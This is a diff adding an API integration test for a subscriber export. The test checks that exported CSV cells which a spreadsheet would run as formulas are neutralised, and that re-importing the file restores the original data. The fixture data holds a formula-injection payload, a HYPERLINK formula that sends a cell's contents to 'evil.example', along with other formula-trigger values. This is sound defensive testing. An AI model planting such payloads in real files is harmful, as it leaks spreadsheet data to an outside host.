@@ -397,6 +397,72 @@ describe('data in bulk', () => {
       expect(after.map(profile)).toEqual(before.map(profile));
     });
 
+    it('neutralises cells a spreadsheet would run as formulas, and reads them back unchanged', async () => {
+      const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+      await post('/v1/subscribers/batch')
+        .send({
+          subscribers: [
+            {
+              email: 'formula@cells.test',
+              first_name: formula,
+              last_name: '+SUM(1)',
+              city: '-2+3',
+              address1: '@A1',
+              phone: '+1 555 0100',
+              tags: ['=tag'],
+              custom_fields: {
+                tabbed: '\tcell',
+                returned: '\rcell',
+                negative: -5,
+                quoted: "'=already quoted",
+                apostrophe: "'plain",
+                '=key': 'value',
+              },
+            },
+          ],
+        })
+        .expect(200);
+      const before = await env.sql(`SELECT * FROM subscribers WHERE email = 'formula@cells.test'`);
+      const accepted = await post('/v1/exports').send({}).expect(202);
+      await waitFor(
+        async () =>
+          ((await get(`/v1/exports/${accepted.body.id}`).expect(200)).body as { status: string })
+            .status === 'done',
+        { timeoutMs: 30_000 },
+      );
+      const download = await get(`/v1/exports/${accepted.body.id}/download`).expect(200);
+      const [header, ...rows] = readCsv(download.text);
+      const row = rows.find((cells) => cells.includes('formula@cells.test'))!;
+      const cell = (column: string) => row[header.indexOf(column)];
+      expect(cell('first_name')).toBe(`'${formula}`);
+      expect(cell('last_name')).toBe("'+SUM(1)");
+      expect(cell('city')).toBe("'-2+3");
+      expect(cell('address1')).toBe("'@A1");
+      expect(cell('phone')).toBe("'+1 555 0100");
+      expect(cell('tags')).toBe("'=tag");
+      expect(cell('tabbed')).toBe("'\tcell");
+      expect(cell('returned')).toBe("'\rcell");
+      expect(cell('negative')).toBe("'-5");
+      expect(cell('apostrophe')).toBe("'plain");
+      expect(header).toContain("'=key");
+      // Nothing in the whole file starts a formula.
+      for (const cells of [header, ...rows]) {
+        for (const text of cells) expect(text).not.toMatch(/^[=+\-@\t\r]/);
+      }
+
+      // The import undoes exactly what the export added.
+      await env.sql(
+        `UPDATE subscribers SET first_name = 'Changed', custom_fields = '{}' WHERE email = 'formula@cells.test'`,
+      );
+      const reimport = await post('/v1/imports')
+        .attach('file', Buffer.from(download.text), 'export.csv')
+        .expect(202);
+      expect(await importDone(reimport.body.id)).toMatchObject({ status: 'done', failed: 0 });
+      const after = await env.sql(`SELECT * FROM subscribers WHERE email = 'formula@cells.test'`);
+      const profile = (r: Record<string, unknown>) => ({ ...r, updated_at: undefined });
+      expect(after.map(profile)).toEqual(before.map(profile));
+    });
+
     it('answers 409 for a download that is not ready and 422 for an unknown segment', async () => {
       const unknown = await post('/v1/exports')
         .send({ segment_id: '00000000-0000-7000-8000-000000000000' })
